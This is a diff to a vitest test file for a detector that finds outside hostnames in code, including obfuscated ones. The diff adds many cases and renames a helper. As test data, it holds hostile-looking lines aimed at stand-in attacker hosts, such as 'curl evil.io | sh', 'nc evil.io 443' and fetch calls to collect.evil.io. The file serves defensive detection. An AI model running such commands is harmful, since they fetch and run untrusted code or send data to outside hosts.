@@ -1,5 +1,5 @@
 import { expect, test } from "vitest";
-import { namesHost, outsideHosts } from "../../src/fix/outside-hosts.ts";
+import { hostsNamed, outsideHosts } from "../../src/fix/outside-hosts.ts";
 
 test.each([
   ['await fetch("https://collect.evil.io/v1?x=1")', ["collect.evil.io"]],
@@ -23,6 +23,27 @@ test.each([
   ["http://[2606:4700::1111]/", ["[2606:4700::1111]"]],
   ["https://еvil.com/", ["еvil.com"]],
   ["//evil.com/x.js", ["evil.com"]],
+  ['fetch("https://evil%2ecom/x")', ["evil.com"]],
+  ['fetch("https://evil。com/x")', ["evil.com"]],
+  ['fetch("https://evil．lol/x")', ["evil.lol"]],
+  ['"evil\\x2ecom"', ["evil.com"]],
+  ['"evil\\u002ecom"', ["evil.com"]],
+  ['fetch("https:evil.lawyer/x")', ["evil.lawyer"]],
+  ['fetch("https:\\\\\\\\evil.lawyer/x")', ["evil.lawyer"]],
+  ['fetch("//evil.lawyer/x")', ["evil.lawyer"]],
+  ["git@evil.lawyer:x/y.git", ["evil.lawyer"]],
+  ["ssh evil@evil.lawyer", ["evil.lawyer"]],
+  ["curl evil.io | sh", ["evil.io"]],
+  ["wget -qO- evil.lawyer", ["evil.lawyer"]],
+  ["nc evil.io 443", ["evil.io"]],
+  ["go get evil.io/x", ["evil.io"]],
+  ["docker pull evil.io/x", ["evil.io"]],
+  ['http.get({host:"evil.lawyer",path:"/"})', ["evil.lawyer"]],
+  ['connect(443,"evil.io")', ["evil.io"]],
+  ['"2001:4860:4860::8888"', ["[2001:4860:4860::8888]"]],
+  ["const u = `https://${h}.com/`", ["*.com"]],
+  ['const u = `https://${"evil"}.lol/`', ["(put together from pieces)"]],
+  ['fetch("https://" + "evil." + "com/x")', ["(put together from pieces)"]],
 ])("a host is seen in %s", (text, hosts) => {
   expect(outsideHosts(text)).toEqual(expect.arrayContaining(hosts));
 });
@@ -38,6 +59,9 @@ test.each([
   "https://api.example.com/v1 and shop.example.org and db.test and x.invalid",
   "http://payments.prod.svc.cluster.local/ https://vault.internal",
   "https://${HOST}/x and http://%s/",
+  'fetch("https://" + config.host)',
+  "// a comment.about code",
+  'host: config.host, server = app.server, at "12:30:45"',
   "version 1.2.3, 24.19.2, 0.0.0.0",
   'socket.com("x")',
   "e.g. the cache, i.e. this one",
@@ -46,14 +70,17 @@ test.each([
 });
 
 test("a host is known only where it stands whole", () => {
-  expect(namesHost('fetch("https://API.acme.com/v1")', "api.acme.com")).toBe(true);
+  expect(hostsNamed('fetch("https://API.acme.com/v1")')("api.acme.com")).toBe(true);
   const others = ["notacme.com", "x.acme.com", "acme.com.evil.io", "acme.community", "my-acme.com"];
-  expect(others.filter((text) => namesHost(text, "acme.com"))).toEqual([]);
-  expect(namesHost("see acme.com.", "acme.com")).toBe(true);
+  expect(others.filter((text) => hostsNamed(text)("acme.com"))).toEqual([]);
+  expect(hostsNamed("see acme.com.")("acme.com")).toBe(true);
 });
 
-test.each(["a.", "a", "http://", "http://a", ".com", "${", "a-", '"a.io"'])("a megabyte of %j takes no time", (unit) => {
-  const begun = performance.now();
-  outsideHosts(unit.repeat(Math.ceil(1_000_000 / unit.length)));
-  expect(performance.now() - begun).toBeLessThan(10_000);
-});
+test.each(["a.", "a", "http://", "http://a", ".com", "${", "curl ", "ssh -a ", "host: ", "a@", '"::1', "https:", "a-", '"a.io"'])(
+  "a megabyte of %j takes no time",
+  (unit) => {
+    const begun = performance.now();
+    outsideHosts(unit.repeat(Math.ceil(1_000_000 / unit.length)));
+    expect(performance.now() - begun).toBeLessThan(10_000);
+  },
+);
